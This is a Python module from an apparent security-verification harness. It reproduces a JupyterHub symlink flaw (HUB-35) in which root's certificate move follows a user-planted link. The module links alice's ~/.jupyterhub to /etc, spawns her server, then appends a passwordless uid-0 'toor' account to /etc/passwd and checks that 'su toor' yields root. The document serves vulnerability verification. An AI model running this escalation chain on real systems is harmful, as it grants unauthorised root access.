"""A link in a user's home and the root hub's copy of her internal-TLS certificates (HUB-35).

Used by ``runbooks/hub/inside.md``.  JupyterHub's ``LocalProcessSpawner.move_certs``
(jupyterhub 6.1.1) runs as the hub's account, root, on paths under the user's
home; this module plays the user who prepares her home before her next start.
The claim carries an embargo (SECURITY.md): the published record keeps the
observed values and withholds the transcripts.
"""

from __future__ import annotations

from typing import cast

from jsv.claims import Observation
from jsv.environments import JupyterHub, Situation
from jsv.errors import EnvironmentTimeout

TARGET = "/etc"
"""The root-owned directory the planted link points at."""
NEW_ACCOUNT = "toor::0:0:jsv:/root:/bin/sh"
REFUSAL_LOG = "was a link to"
"""What the fix's spawner logs when it replaces a planted link (see HUB-35's fix)."""


def _stop_alice(hub: JupyterHub) -> None:
    hub.api("users/alice/server", "DELETE")
    hub.run_when("! pgrep -u alice -f jupyterhub-singleuser >/dev/null", "true", wait=30)


def planted_link_on_spawn(target: JupyterHub | Situation) -> Observation:
    """alice links ~/.jupyterhub to a root-owned directory, her server starts; who owns it then."""
    hub = cast(JupyterHub, target.machine) if isinstance(target, Situation) else target
    _stop_alice(hub)
    plant = hub.run(f"rm -rf /home/alice/.jupyterhub && ln -s {TARGET} /home/alice/.jupyterhub", user="alice")
    try:
        hub.spawn("alice")
        ready = True
    except EnvironmentTimeout:
        ready = False
    owner = hub.run(f"stat -c '%U' {TARGET}")
    own_key = hub.run("stat -c '%a %U' /home/alice/.jupyterhub/jupyterhub-certs/user-alice.key")
    escalate = hub.run(
        f"cp {TARGET}/passwd {TARGET}/.jsv-passwd && echo '{NEW_ACCOUNT}' >> {TARGET}/.jsv-passwd && "
        f"mv {TARGET}/.jsv-passwd {TARGET}/passwd && su toor -c id 2>&1",
        user="alice",
    )
    return Observation(
        {
            f"owner of {TARGET} after alice's start": owner.stdout.strip(),
            "alice's server ready": ready,
            "alice's key in her home": own_key.stdout.strip() or "absent",
            "alice gets uid 0": "uid=0(" in escalate.stdout,
            "hub logged the replaced link": REFUSAL_LOG in hub.logs_text(),
        },
        "\n".join(r.transcript for r in (plant, owner, own_key, escalate)),
    )
